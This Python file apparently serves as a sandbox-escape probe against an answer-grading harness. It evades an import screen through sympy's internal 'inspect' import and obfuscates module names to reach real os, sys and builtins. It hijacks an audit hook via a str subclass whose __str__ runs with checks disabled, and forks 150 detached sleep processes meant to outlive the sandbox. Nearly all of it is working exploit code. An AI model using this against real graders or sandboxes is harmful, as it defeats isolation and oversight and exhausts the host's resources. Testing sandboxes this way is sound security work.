"""effect: exhaust-processes
tries: route 1, then 150 detached sleeping processes (setsid, 300 s each; the harness kills what is left) that outlive the answer's sandbox.

RLIMIT_NPROC = 0 does not bind uid 0; the sandbox kills its process group only on a timeout.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    fork = members(os_)["fork"]
    for _ in range(150):
        if fork() == 0:
            os_.setsid()
            os_.closerange(0, 64)  # the sandbox's pipes: the grader must not wait for us
            members(os_)["execv"]("/bin/sleep", ["sleep", "300"])

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
